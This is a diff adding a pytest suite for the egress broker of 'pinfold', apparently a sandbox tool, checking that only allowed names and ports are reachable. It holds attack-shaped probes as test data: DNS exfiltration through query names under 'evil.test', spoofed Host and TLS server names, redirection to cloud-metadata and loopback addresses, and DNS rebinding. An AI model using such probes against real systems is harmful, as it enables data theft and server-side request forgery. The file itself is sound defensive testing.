@@ -1,0 +1,629 @@
+"""Egress by host name: what an allowed name reaches, and that nothing else leaves.
+
+The servers live in a network namespace behind a veth pair, in which a recorder sees every packet; a second namespace is
+the "host" of pinfold, so that the machine's own network is never touched.
+"""
+import json
+import os
+import pathlib
+import shutil
+import signal
+import subprocess
+import time
+
+import pytest
+
+from conftest import Pinfold, USER, build_directory, make_home, opened
+
+HERE = pathlib.Path(__file__).parent
+PYTHON = "/usr/bin/python3"
+PUBLIC, SECOND, SIX = "192.0.2.10", "203.0.113.5", "2001:db8::10"
+ZONE = {
+    "api.example.com": [PUBLIC], "www.example.com": [PUBLIC], "a.files.example.org": [SECOND], "six.example.com": [SIX],
+    "both.example.com": [SIX, PUBLIC],
+    "private.example.com": ["10.66.0.1"], "meta.example.com": ["169.254.169.254"], "loop.example.com": ["127.0.0.1"],
+    "mapped.example.com": ["::ffff:127.0.0.1"], "nat64.example.com": ["64:ff9b::a9fe:a9fe"],
+    "sixto4.example.com": ["2002:7f00:1::"], "zero.example.com": ["0.0.0.0"], "cgnat.example.com": ["100.64.0.1"],
+    "own.example.com": ["192.0.2.1"], "ula.example.com": ["fd00::1"], "multi.example.com": ["224.0.0.1"],
+    "mixed.example.com": ["10.66.0.1", PUBLIC, "127.0.0.1"],
+    "chain.example.com": ["cname:other.example.net"], "other.example.net": [PUBLIC],
+    "evilchain.example.com": ["cname:inner.example.net"], "inner.example.net": ["10.66.0.1"],
+    "rebind.example.com": [[PUBLIC], ["127.0.0.1"]],
+}
+
+pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="the test network needs root")
+
+
+def ip(*arguments):
+    subprocess.run(["ip", *arguments], check=True, capture_output=True)
+
+
+class Internet:
+    """Two namespaces: `host`, in which pinfold runs, and `net` with the servers."""
+
+    def __init__(self, folder):
+        self.host, self.net = f"pinhost{os.getpid()}", f"pinnet{os.getpid()}"
+        self.certificate = folder / "ca.pem"
+        key = folder / "key.pem"
+        subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes",
+                        "-keyout", key, "-out", self.certificate, "-days", "2", "-subj", "/CN=api.example.com", "-addext",
+                        "subjectAltName=DNS:api.example.com,DNS:www.example.com,DNS:*.files.example.org"],
+                       check=True, capture_output=True)
+        os.chmod(self.certificate, 0o644)
+        self.resolv = folder / "resolv.conf"
+        self.resolv.write_text("nameserver 192.0.2.53\noptions timeout:1 attempts:1\n")
+        os.chmod(self.resolv, 0o644)
+        self.make()
+        self.process = subprocess.Popen(["nsenter", f"--net=/run/netns/{self.net}", PYTHON, HERE / "egress_internet.py",
+                                         self.certificate, key], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
+        assert self.process.stdout.readline() == "ready\n"
+
+    def make(self):
+        for name in (self.host, self.net):
+            ip("netns", "add", name)
+            ip("-n", name, "link", "set", "lo", "up")
+        ip("-n", self.host, "link", "add", "out", "type", "veth", "peer", "name", "in", "netns", self.net)
+        ip("-n", self.host, "address", "add", "192.0.2.1/32", "dev", "out")
+        ip("-n", self.host, "address", "add", "2001:db8::1/64", "dev", "out", "nodad")
+        ip("-n", self.net, "address", "add", "2001:db8::10/64", "dev", "in", "nodad")
+        for address in (PUBLIC, SECOND, "192.0.2.53", "10.66.0.1", "169.254.169.254", "100.64.0.1"):
+            ip("-n", self.net, "address", "add", f"{address}/32", "dev", "in")
+        for name, device in ((self.host, "out"), (self.net, "in")):
+            ip("-n", name, "link", "set", device, "up")
+            ip("-n", name, "route", "add", "default", "dev", device)
+        ip("-n", self.host, "-6", "route", "add", "default", "dev", "out")
+
+    def ask(self, **command):
+        self.process.stdin.write(json.dumps(command) + "\n")
+        self.process.stdin.flush()
+        return json.loads(self.process.stdout.readline())
+
+    def seen(self):
+        time.sleep(0.05)  # what was sent has arrived; the recorder may need a moment to say so
+        return self.ask(seen=True)["seen"]
+
+    def bytes_to(self, facts, *places):
+        """Payload that reached anything but the resolver; with places, only those (address, port)."""
+        return sum(f["payload"] for f in facts if f["kind"] == "packet" and f["to"] != "192.0.2.53"
+                   and (not places or (f["to"], f["port"]) in places))
+
+    def close(self):
+        self.process.stdin.close()
+        self.process.wait(10)
+        for name in (self.host, self.net):
+            subprocess.run(["ip", "netns", "delete", name], check=False)
+
+
+@pytest.fixture(scope="session")
+def world(tmp_path_factory):
+    folder = tmp_path_factory.mktemp("internet")
+    for path in [folder, *folder.parents]:
+        if path == pathlib.Path("/tmp"):
+            break
+        os.chmod(path, 0o755)
+    internet = Internet(folder)
+    yield internet
+    internet.close()
+
+
+@pytest.fixture
+def internet(world):
+    world.ask(zone=ZONE)
+    world.seen()
+    return world
+
+
+class Inside(Pinfold):
+    """`pinfold run` in the namespace of the test's host."""
+
+    def __init__(self, internet, programs, home, uid):
+        super().__init__(programs, home, uid)
+        self.internet = internet
+
+    def environment(self, **extra):
+        return super().environment(PINFOLD_LIBEXEC=str(self.program.parent), PINFOLD_RESOLV_CONF=str(self.internet.resolv),
+                                   **extra)
+
+    def argv(self, *arguments, **kwargs):
+        return ["nsenter", f"--net=/run/netns/{self.internet.host}", *self.identity(), *super().argv(*arguments, **kwargs)]
+
+    def identity(self):
+        return ["setpriv", f"--reuid={self.uid}", f"--regid={self.uid}", "--clear-groups"] if self.rootless else []
+
+    def spawn(self, argv, env=None, **kwargs):
+        return subprocess.Popen(argv, env=env or self.environment(), **kwargs)
+
+    def reach(self, *rules, deny=()):
+        return self.policy(extends=["tool"], network={"egress": list(rules), "deny": list(deny)})
+
+    def events(self, *arguments, policy):
+        done = self.run(*arguments, policy=policy, options=["--stream"])
+        lines = [json.loads(line) for line in done.stdout.splitlines()]
+        out = "".join(line["data"] for line in lines if line["type"] in ("stdout", "stderr"))
+        return out, [line for line in lines if line["type"] == "egress"], lines[-1]
+
+
+@pytest.fixture(params=["root", "user"])
+def inside(request, internet, programs, tmp_path):
+    broker = build_directory() / "runtime/egress/pinfold-broker"
+    shutil.copy(broker, programs / "pinfold-broker")
+    yield from opened(Inside(internet, programs, make_home(tmp_path), 0 if request.param == "root" else USER))
+
+
+class Harness:
+    """The broker alone: a program in its network, without the rest of a sandbox."""
+
+    def __init__(self, internet, folder):
+        self.internet, self.folder = internet, folder
+
+    def start(self, *arguments, rules=(), options=(), requests=None, **kwargs):
+        build = build_directory()
+        path = self.folder / "events"  # a file: nobody has to read it for the program to go on
+        write = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC)
+
+        def move():
+            os.dup2(write, 3)
+            if requests is not None:
+                os.dup2(requests, 4)
+
+        argv = ["nsenter", f"--net=/run/netns/{self.internet.host}", build / "tests/unit/egress_harness",
+                build / "runtime/egress/pinfold-broker", *options, *rules, "--", *arguments]
+        env = {"PATH": os.environ["PATH"], "PINFOLD_RESOLV_CONF": str(self.internet.resolv), "EGRESS_HARNESS_PID": "1"}
+        process = subprocess.Popen(argv, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, close_fds=False,
+                                   preexec_fn=move, **kwargs)
+        os.close(write)
+        process.events = path
+        return process
+
+    def wait_for(self, process, start):
+        """The first event that begins so."""
+        until = time.monotonic() + 10
+        while time.monotonic() < until:
+            for line in process.events.read_text().splitlines():
+                if line.startswith(start):
+                    return line
+            time.sleep(0.01)
+        raise AssertionError(f"no event {start}: {process.events.read_text()}")
+
+    def run(self, *arguments, **kwargs):
+        process = self.start(*arguments, **kwargs)
+        try:
+            out = process.communicate(timeout=60)[0].decode()
+        finally:
+            process.kill()
+        return process.returncode, out, process.events.read_text().splitlines()
+
+
+@pytest.fixture
+def harness(internet, tmp_path):
+    return Harness(internet, tmp_path)
+
+
+def https(host, ports=(443,)):
+    return {"host": host, "ports": list(ports)}
+
+
+CONNECT = """
+import socket, sys
+for place in sys.argv[1:]:
+    host, port = place.rsplit(":", 1)
+    try:
+        with socket.create_connection((host, int(port)), timeout=5) as s:
+            s.sendall(b"GET / HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n")
+            data = s.recv(100)
+            print(place, "answered" if data else "closed")
+    except OSError as error:
+        print(place, type(error).__name__)
+"""
+
+
+# --- names and ports ------------------------------------------------------------------------------------------------
+
+
+def test_a_listed_name_is_reached_on_its_port_and_nothing_else_is(inside):
+    policy = inside.reach(https("api.example.com", [80, 7002]))
+    out, events, end = inside.events("curl", "-sS", "http://api.example.com/there", policy=policy)
+    assert out == "/there" and end["usage"]["egress"]["allowed"] == 1 and "egress" not in end["missing"]
+    assert end["usage"]["egress"]["bytes_in"] > 6 and end["usage"]["egress"]["bytes_out"] > 20
+    assert [e["event"] for e in events] == ["ready", "name", "connect", "close"]
+    assert events[2]["address"] == PUBLIC and events[2]["rule"] == "api.example.com:80,7002"
+    inside.internet.seen()
+    refused = ["www.example.com:80", "api.example.com:7000", f"{PUBLIC}:80", f"{SECOND}:80", f"{SIX}:80", "10.66.0.1:80",
+               "169.254.169.254:80", "192.0.2.1:80", "100.64.0.1:80", "224.0.0.1:80"]
+    done = inside.python(CONNECT, *refused, policy=policy)
+    for line in done["stdout"].splitlines():
+        assert line.split()[1] not in ("answered", "closed"), line
+    assert len(done["stdout"].splitlines()) == len(refused)
+    assert done["usage"]["egress"]["allowed"] == 0 and done["usage"]["egress"]["denied"] >= 7
+    assert [f for f in inside.internet.seen() if f["kind"] != "broken"] == []
+
+
+def test_without_a_list_there_is_no_way_out_and_no_broker(inside):
+    out, events, end = inside.events(PYTHON, "-c", CONNECT, f"{PUBLIC}:80", "api.example.com:80", policy=inside.policy())
+    assert "answered" not in out and events == []
+    assert inside.internet.seen() == []
+
+
+def test_a_wildcard_covers_what_is_below_and_a_refusal_beats_it(inside):
+    policy = inside.reach(https("*.example.com", [7002]), https("*.files.example.org", [7002]),
+                          deny=[{"host": "www.example.com"}])
+    places = ["api.example.com:7002", "a.files.example.org:7002", "www.example.com:7002", "example.com:7002",
+              "files.example.org:7002"]
+    out = inside.python(CONNECT, *places, policy=policy)["stdout"].splitlines()
+    assert [line.split()[1] == "answered" for line in out] == [True, True, False, False, False]
+
+
+def test_a_request_narrows_the_list_and_never_widens_it(inside):
+    policy = inside.reach(https("api.example.com", [7002]), https("six.example.com", [7002]))
+    out = inside.json(PYTHON, "-c", CONNECT, "api.example.com:7002", "six.example.com:7002", policy=policy,
+                      options=["--egress", "six.example.com:7002"])["stdout"].splitlines()
+    assert [line.split()[1] == "answered" for line in out] == [False, True]
+    refused = inside.run("true", policy=policy, options=["--egress", "www.example.com:7002"])
+    assert refused.returncode == 125 and b"www.example.com" in refused.stderr
+
+
+def test_cidr_rules_open_addresses_that_are_dialled_as_they_are(inside):
+    policy = inside.reach({"cidr": "10.66.0.0/24", "ports": [7002]}, {"cidr": "2001:db8::/64", "ports": [7002]})
+    places = ["10.66.0.1:7002", f"{SIX}:7002", "10.66.0.1:80", f"{PUBLIC}:7002"]
+    out = inside.python(CONNECT, *places, policy=policy)["stdout"].splitlines()
+    assert [line.split()[1] == "answered" for line in out] == [True, True, False, False]
+
+
+# --- names that lead elsewhere ---------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("name", ["private", "meta", "loop", "mapped", "nat64", "sixto4", "zero", "cgnat", "own", "ula", "multi",
+                                  "evilchain"])
+def test_an_allowed_name_never_leads_to_an_address_that_is_not_public(harness, name):
+    _, out, events = harness.run(PYTHON, "-c", CONNECT, f"{name}.example.com:7002", rules=["*.example.com:7002"])
+    assert "answered" not in out and "closed" not in out
+    refusals = [e for e in events if e.startswith(("refuse address-class", "refuse host-address"))]
+    assert refusals and all(f"{name}.example.com" in line for line in refusals)
+    facts = harness.internet.seen()
+    assert harness.internet.bytes_to(facts) == 0 and not [f for f in facts if f["kind"] == "packet" and f["to"] != "192.0.2.53"]
+
+
+def test_a_cidr_rule_opens_such_an_address_for_a_name(harness):
+    _, out, _ = harness.run(PYTHON, "-c", CONNECT, "private.example.com:7002",
+                            rules=["private.example.com:7002", "10.66.0.0/24:7002"])
+    assert "answered" in out
+
+
+def test_of_mixed_answers_only_the_public_one_is_dialled(harness):
+    _, out, events = harness.run(PYTHON, "-c", CONNECT, "mixed.example.com:7002", rules=["mixed.example.com:7002"])
+    assert "answered" in out
+    assert [e.split()[3] for e in events if e.startswith("connect")] == [PUBLIC]
+
+
+def test_a_chain_of_names_is_followed_to_a_public_end(harness):
+    _, out, _ = harness.run(PYTHON, "-c", CONNECT, "chain.example.com:7002", rules=["chain.example.com:7002"])
+    assert "answered" in out
+
+
+def test_a_name_that_is_rebound_is_screened_at_each_connect(harness):
+    _, out, events = harness.run(PYTHON, "-c", CONNECT, *["rebind.example.com:7002"] * 2, rules=["rebind.example.com:7002"])
+    assert [line.split()[1] == "answered" for line in out.splitlines()] == [True, False]
+    assert any(e.startswith("refuse address-class rebind.example.com 127.0.0.1") for e in events)
+
+
+def test_a_host_with_both_families_is_reached_by_either(harness):
+    for name in ("six.example.com", "both.example.com"):
+        _, out, _ = harness.run(PYTHON, "-c", CONNECT, f"{name}:7002", rules=[f"{name}:7002"])
+        assert "answered" in out
+
+
+# --- questions -------------------------------------------------------------------------------------------------------
+
+DIG = """
+import socket, struct, sys
+def ask(server, name, kind, tcp=False):
+    message = struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"".join(
+        bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\\0" + struct.pack("!HH", kind, 1)
+    family = socket.AF_INET6 if ":" in server else socket.AF_INET
+    s = socket.socket(family, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
+    s.settimeout(3)
+    s.connect((server, 53))
+    s.sendall(struct.pack("!H", len(message)) + message if tcp else message)
+    answer = s.recv(2000)[2 if tcp else 0:]
+    return answer[3] & 15, struct.unpack("!H", answer[6:8])[0], s.getpeername()[0]
+for server in ("127.0.0.53", "8.8.8.8", "192.0.2.53", "2001:4860:4860::8888", "::1"):
+    for tcp in (False, True):
+        print(server, tcp, ask(server, "api.example.com", 1, tcp)[:2], ask(server, "aPi.example.com", 28, tcp)[:2],
+              ask(server, "api.example.com", 65, tcp)[:2], ask(server, "nope.example.com", 1, tcp)[:2])
+"""
+
+
+def test_every_resolver_answers_from_the_rules_and_asks_nobody(harness):
+    _, out, events = harness.run(PYTHON, "-c", DIG, rules=["api.example.com:443"])
+    lines = out.splitlines()
+    assert len(lines) == 10, out
+    for line in lines:
+        assert line.endswith("(0, 1) (0, 1) (0, 0) (3, 0)"), line
+    assert [f for f in harness.internet.seen() if f["kind"] in ("question", "packet")] == []
+    assert any(e.startswith("refuse not-listed nope.example.com") for e in events)
+
+
+def test_data_in_questions_does_not_leave(harness):
+    code = """
+import socket
+for i in range(300):
+    try: socket.getaddrinfo(f"{i:060x}.data.example.com", 443)
+    except OSError: pass
+    try: socket.getaddrinfo(f"{i:060x}.evil.test", 443)
+    except OSError: pass
+"""
+    _, _, events = harness.run(PYTHON, "-c", code, rules=["*.example.com:443"], options=["-l", "names=50"])
+    assert [f for f in harness.internet.seen() if f["kind"] in ("question", "packet")] == []
+    assert sum(e.startswith("name ") for e in events) == 50
+    assert any(e.startswith("refuse budget") for e in events)
+
+
+def test_a_synthetic_address_has_its_name(harness):
+    _, out, _ = harness.run(PYTHON, "-c", "import socket; print(socket.gethostbyaddr(socket.gethostbyname('api.example.com'))[0])",
+                            rules=["api.example.com:443"])
+    assert out == "api.example.com\n"
+
+
+# --- TLS and HTTP ----------------------------------------------------------------------------------------------------
+
+
+def test_https_works_and_another_name_in_the_hello_does_not(inside):
+    policy = inside.reach(https("api.example.com"), https("www.example.com", [80]))
+    copy = inside.home / "ca.pem"
+    shutil.copy(inside.internet.certificate, copy)
+    pem = copy.read_text()
+    code = """
+import socket, ssl, sys
+context = ssl.create_default_context(cadata=sys.argv[1])
+def fetch(name):
+    with socket.create_connection(("api.example.com", 443), timeout=5) as raw:
+        context.check_hostname = False
+        with context.wrap_socket(raw, server_hostname=name) as s:
+            s.sendall(b"GET /secure HTTP/1.1\\r\\nHost: api.example.com\\r\\n\\r\\n")
+            return s.recv(1000).split(b"\\r\\n\\r\\n")[1].decode()
+for name in ("api.example.com", "API.Example.com", "www.example.com", "evil.test", None):
+    try: print(name, fetch(name))
+    except OSError as error: print(name, "refused")
+with socket.create_connection(("api.example.com", 443), timeout=5) as raw:
+    raw.sendall(b"GET / HTTP/1.1\\r\\nHost: api.example.com\\r\\n\\r\\n")
+    try: print("plain", raw.recv(100))
+    except OSError: print("plain refused")
+"""
+    done = inside.python(code, pem, policy=policy)
+    assert done["stdout"].splitlines() == ["api.example.com /secure", "API.Example.com /secure", "www.example.com refused",
+                                           "evil.test refused", "None refused", "plain refused"], done
+    assert sum(f["kind"] == "tls" and f["bytes"] > 0 for f in inside.internet.seen()) == 2
+
+
+def test_a_hello_in_pieces_is_read_as_one(harness):
+    code = """
+import socket, ssl, time
+context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
+i, o = ssl.MemoryBIO(), ssl.MemoryBIO()
+tls = context.wrap_bio(i, o, server_hostname="api.example.com")
+try: tls.do_handshake()
+except ssl.SSLWantReadError: pass
+s = socket.create_connection(("api.example.com", 443)); s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+for byte in o.read():
+    s.sendall(bytes([byte]))
+print(s.recv(3).hex())
+"""
+    _, out, _ = harness.run(PYTHON, "-c", code, rules=["api.example.com:443"])
+    assert out == "160303\n"
+
+
+def test_each_request_of_a_connection_is_for_the_host_that_was_dialled(harness):
+    code = """
+import socket, sys
+s = socket.create_connection(("api.example.com", 80), timeout=5)
+for host in ("api.example.com", "API.EXAMPLE.COM:80", "evil.test"):
+    s.sendall(b"GET /%s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % (host.encode(), host.encode()))
+    try: print(s.recv(1000).split(b"\\r\\n\\r\\n")[1].decode())
+    except (OSError, IndexError): print("refused")
+s = socket.create_connection(("api.example.com", 80), timeout=5)
+s.sendall(b"GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n")
+print(s.recv(1000).split(b"\\r\\n")[0].decode())
+"""
+    _, out, events = harness.run(PYTHON, "-c", code, rules=["api.example.com:80"])
+    assert out.splitlines() == ["/api.example.com", "/API.EXAMPLE.COM:80", "refused", "HTTP/1.1 400 Bad Request"]
+    heads = [f["head"] for f in harness.internet.seen() if f["kind"] == "request"]
+    assert len(heads) == 2 and not any("evil" in head for head in heads)
+    assert sum(e.startswith("refuse http-host") for e in events) >= 1
+
+
+# --- connections -----------------------------------------------------------------------------------------------------
+
+
+def test_both_halves_of_a_connection_end_on_their_own(harness):
+    code = """
+import socket
+s = socket.create_connection(("api.example.com", 7000))
+s.sendall(b"q" * 20_000_000); s.shutdown(socket.SHUT_WR)
+print(s.recv(9).decode())
+"""
+    _, out, _ = harness.run(PYTHON, "-c", code, rules=["api.example.com:7000"])
+    assert out == "20000000:\n"
+
+
+def test_large_answers_arrive_whole(inside):
+    policy = inside.reach(https("api.example.com", [80]))
+    done = inside.json("sh", "-c", "curl -sS http://api.example.com/bytes/30000000 | wc -c", policy=policy)
+    assert done["stdout"].strip() == "30000000" and done["usage"]["egress"]["bytes_in"] >= 30000000
+
+
+def test_what_the_network_says_is_what_the_program_sees(harness):
+    _, out, events = harness.run(PYTHON, "-c", CONNECT, "api.example.com:9999", rules=["api.example.com:9999"])
+    assert "ConnectionResetError" in out
+    assert any(e.startswith("fail") and "errno=111" in e for e in events)
+
+
+def test_a_peer_that_never_reads_holds_up_nobody_else(harness):
+    code = """
+import socket, threading
+stuck = socket.create_connection(("api.example.com", 7001)); stuck.setblocking(False)
+try:
+    while True: stuck.send(b"z" * 65536)
+except BlockingIOError: pass
+for _ in range(20):
+    s = socket.create_connection(("api.example.com", 7002), timeout=2); assert s.recv(10) == b"hello\\n"; s.close()
+print("fine")
+"""
+    _, out, _ = harness.run(PYTHON, "-c", code, rules=["api.example.com:7001-7002"])
+    assert out == "fine\n"
+
+
+def test_a_thousand_connections_are_held_and_the_next_one_is_refused(harness):
+    code = """
+import socket, resource
+resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
+held = []
+for _ in range(1000):
+    s = socket.create_connection(("api.example.com", 7002), timeout=5); assert s.recv(10) == b"hello\\n"; held.append(s)
+try: print(socket.create_connection(("api.example.com", 7002), timeout=5).recv(10))
+except ConnectionResetError: print("refused")
+"""
+    _, out, events = harness.run(PYTHON, "-c", code, rules=["api.example.com:7002"], options=["-l", "at-once=1000"])
+    assert out == "refused\n"
+    assert any(e.startswith("refuse budget api.example.com") for e in events)
+    count = lambda kind: sum(int(e.split("times=")[1].split()[0]) for e in events if e.startswith(kind))
+    assert count("connect ") == 1000 and count("close ") == 1000
+
+
+def test_budgets_of_bytes_close_the_connection(harness):
+    _, out, events = harness.run("sh", "-c", "curl -sS http://api.example.com/bytes/9000000 | wc -c", rules=["api.example.com:80"],
+                                 options=["-l", "in=1000000"])
+    assert 1000000 <= int(out.split()[-1]) < 9000000 or "curl" in out
+    assert any(e.startswith("refuse budget") for e in events)
+
+
+def test_a_rate_is_kept(harness):
+    started = time.monotonic()
+    _, out, _ = harness.run("sh", "-c", "curl -sS http://api.example.com/bytes/3000000 | wc -c", rules=["api.example.com:80"],
+                            options=["-l", "rate=1000000"])
+    assert out.strip() == "3000000" and 1.5 < time.monotonic() - started < 6
+
+
+def test_new_rules_cut_what_they_forbid(harness):
+    code = """
+import socket, sys
+s = socket.create_connection(("api.example.com", 7002)); print(s.recv(10), flush=True)
+sys.stdin.readline()
+try: print(s.recv(10))
+except ConnectionResetError: print("cut")
+t = socket.create_connection(("www.example.com", 7002)); print(t.recv(10))
+"""
+    read, write = os.pipe()
+    process = harness.start(PYTHON, "-uc", code, rules=["api.example.com:7002"], options=["-a"], requests=read,
+                            stdin=subprocess.PIPE)
+    assert process.stdout.readline() == b"b'hello\\n'\n"
+    os.write(write, b"replace www.example.com:7002\n")
+    harness.wait_for(process, "replaced")
+    out = process.communicate(b"\n", timeout=20)[0]
+    os.close(write)
+    os.close(read)
+    assert out == b"cut\nb'hello\\n'\n"
+
+
+# --- UDP -------------------------------------------------------------------------------------------------------------
+
+
+def test_udp_reaches_what_a_rule_names_and_nothing_else(inside):
+    code = """
+import socket
+def ask(host, port):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
+    try:
+        s.connect((host, port)); s.send(b"ping"); return s.recv(100)
+    except OSError as error: return "refused"
+print(ask("api.example.com", 7003), ask("api.example.com", 7004), ask("203.0.113.5", 7003))
+"""
+    policy = inside.reach({"host": "api.example.com", "ports": [7003], "protocol": "udp"})
+    done = inside.python(code, policy=policy)
+    assert done["stdout"] == "b'echo:ping' refused refused\n", done
+    assert {(f["to"], f["port"]) for f in inside.internet.seen() if f["kind"] == "packet" and f["to"] != "192.0.2.53"} == {(PUBLIC, 7003)}
+
+
+def test_a_named_resolver_is_asked_itself(harness):
+    code = DIG.split("for server")[0] + "print(ask('resolver.example.com', 'www.example.com', 1)[:2])"
+    harness.internet.ask(zone={**ZONE, "resolver.example.com": ["192.0.2.53"]})
+    _, out, _ = harness.run(PYTHON, "-c", code, rules=["resolver.example.com:53/udp"], options=["-u"])
+    assert out == "(0, 1)\n"
+    assert "www.example.com" in [f["name"] for f in harness.internet.seen() if f["kind"] == "question"]
+
+
+# --- the broker itself -----------------------------------------------------------------------------------------------
+
+
+def test_the_broker_stands_behind_walls_of_its_own(harness):
+    process = harness.start("sleep", "20", rules=["api.example.com:443"])
+    pid = int(harness.wait_for(process, "broker").split()[1])
+    harness.wait_for(process, "ready")
+    status = dict(line.split(":\t", 1) for line in pathlib.Path(f"/proc/{pid}/status").read_text().splitlines() if ":\t" in line)
+    assert status["CapEff"] == status["CapPrm"] == "0" * 16 and status["NoNewPrivs"] == "1" and status["Seccomp"] == "2"
+    assert status["Uid"].split()[0] != "0" and status["Threads"] == "1"
+    assert os.listdir(f"/proc/{pid}/root") == []
+    own = lambda ns: os.readlink(f"/proc/{pid}/ns/{ns}") != os.readlink(f"/proc/self/ns/{ns}")
+    assert own("user") and own("mnt") and own("ipc")
+    limits = pathlib.Path(f"/proc/{pid}/limits").read_text()
+    assert "Max core file size        0                    0" in limits
+    kinds = {os.readlink(f"/proc/{pid}/fd/{fd}").split(":")[0] for fd in os.listdir(f"/proc/{pid}/fd")}
+    assert kinds <= {"socket", "anon_inode", "/memfd", "/dev/null"}, kinds
+    process.terminate()
+    process.communicate()
+
+
+def test_a_dead_broker_closes_the_network_and_the_result_says_so(inside):
+    code = """
+import socket, sys, time
+s = socket.create_connection(("api.example.com", 7001)); print(s.recv(5), flush=True)
+for _ in range(200):
+    try:
+        if not s.send(b"x"): break
+    except OSError: print("closed"); break
+    time.sleep(0.05)
+try: socket.create_connection(("api.example.com", 7002), timeout=3); print("open")
+except OSError: print("refused")
+"""
+    policy = inside.reach(https("api.example.com", [7001, 7002]))
+    process = inside.spawn(inside.argv(PYTHON, "-uc", code, policy=policy, options=["--stream"]), stdout=subprocess.PIPE,
+                           stdin=subprocess.DEVNULL)
+    lines = []
+    for line in process.stdout:
+        lines.append(json.loads(line))
+        if lines[-1].get("event") == "connect":
+            for pid in subprocess.run(["pgrep", "-x", "pinfold-broker", "-P", str(process.pid)], capture_output=True,
+                                      text=True).stdout.split() or children(process.pid):
+                os.kill(int(pid), signal.SIGKILL)
+    process.wait(30)
+    out = "".join(line["data"] for line in lines if line["type"] == "stdout")
+    assert out.endswith("closed\nrefused\n"), out
+    assert "egress" in lines[-1]["missing"]
+
+
+def children(pid):
+    """The brokers among all that a process has started."""
+    found = []
+    for task in pathlib.Path(f"/proc/{pid}/task").iterdir():
+        for child in (task / "children").read_text().split():
+            name = pathlib.Path(f"/proc/{child}/comm").read_text().strip()
+            found += [child] if name == "pinfold-broker" else []
+            found += children(int(child)) if name != "pinfold-broker" else []
+    return found
+
+
+def test_nothing_is_left_behind(inside):
+    policy = inside.reach(https("api.example.com", [7002]))
+    inside.python(CONNECT, "api.example.com:7002", policy=policy)
+    assert not [p for p in pathlib.Path("/proc").glob("[0-9]*/comm") if read(p) == "pinfold-broker\n" and is_orphan(p.parent)]
+
+
+def read(path):
+    try:
+        return path.read_text()
+    except OSError:
+        return ""
+
+
+def is_orphan(process):
+    status = read(process / "status")
+    return "\nPPid:\t1\n" in status and "\nState:\tZ" not in status
